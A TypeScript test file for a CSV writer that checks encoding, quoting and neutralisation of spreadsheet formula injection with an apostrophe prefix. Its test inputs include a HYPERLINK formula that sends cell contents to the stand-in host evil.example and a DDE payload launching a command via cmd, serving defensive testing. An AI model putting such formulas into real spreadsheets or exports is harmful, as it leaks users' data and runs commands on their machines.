import {
  array,
  assert as assertProperty,
  constantFrom,
  oneof,
  property,
  string as anyString,
} from 'fast-check';
import { expect, test } from 'vitest';
import { writeCsv } from './csv.ts';

/** The rows of a CSV text as RFC 4180 reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error('This is no CSV.');
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

/** Without the apostrophes, which the writer may have added. */
function withoutMarks(rows: readonly (readonly string[])[]): string[][] {
  return rows.map((row) => row.map((text) => text.replaceAll("'", '')));
}

function written(cell: string): string | undefined {
  return readCsv(writeCsv([[cell]]).slice(1))[0]?.[0];
}

test('[R62] the table is UTF-8 with a byte order mark, CRLF lines and quoted text', () => {
  expect(
    writeCsv([
      ['list', 'title'],
      [11, 'Amélie'],
      [12, 'a "b", c'],
    ]),
  ).toBe('\uFEFF"list","title"\r\n11,"Amélie"\r\n12,"a ""b"", c"\r\n');
});

test.each([
  '=1+1',
  '+1',
  '-30-',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '=HYPERLINK("http://evil.example/"&A1)',
  "=cmd|' /C calc'!A0",
])('[R62] the cell %j is text, because an apostrophe stands before it', (cell) => {
  expect(written(cell)).toMatch(/^'/);
  expect(written(cell)?.replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
});

test.each(['"=1+1"', ' =1', "'=1", '\u00a0@x', '\uFEFF=1', ' "\'+1'])(
  '[R62] the cell %j hides a formula behind what programs skip, and has an apostrophe before it',
  (cell) => {
    expect(written(cell)).toMatch(/'[=+@]/);
  },
);

test('[R62] a program that reads semicolons or tabs for commas finds no formula either', () => {
  expect(written('a;=1;b\t@x\n-1')).toBe("a;'=1;b\t'@x\n'-1");
});

test.each(['', 'Amélie', 'Face/Off', '2001: A Space Odyssey', '*batteries', '1-2-3', 'a = b', '💥 - 💥'])(
  '[R62] the cell %j stays as it is',
  (cell) => {
    expect(written(cell)).toBe(cell);
  },
);

test('[R62] whatever the cells are, the table is read back and no program finds a formula in it', () => {
  const sign = constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", ' ', '＝');
  const cell = oneof(
    array(oneof(sign, anyString({ unit: 'binary', maxLength: 2 })), { maxLength: 12 }).map((parts) =>
      parts.join(''),
    ),
    anyString({ unit: 'grapheme' }),
  );
  assertProperty(
    property(array(array(cell, { minLength: 2, maxLength: 3 }), { minLength: 1, maxLength: 4 }), (rows) => {
      const table = writeCsv(rows).slice(1);
      const read = readCsv(table);
      expect(withoutMarks(read)).toEqual(
        withoutMarks(rows.map((row) => row.map((text) => text.toWellFormed()))),
      );
      for (const text of read.flat()) expect(text).not.toMatch(/^[\s"]*[=+\-@\t\r＝]/);
      for (const piece of table.split(/[;\t\r\n]/)) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
    }),
    { numRuns: 500 },
  );
});
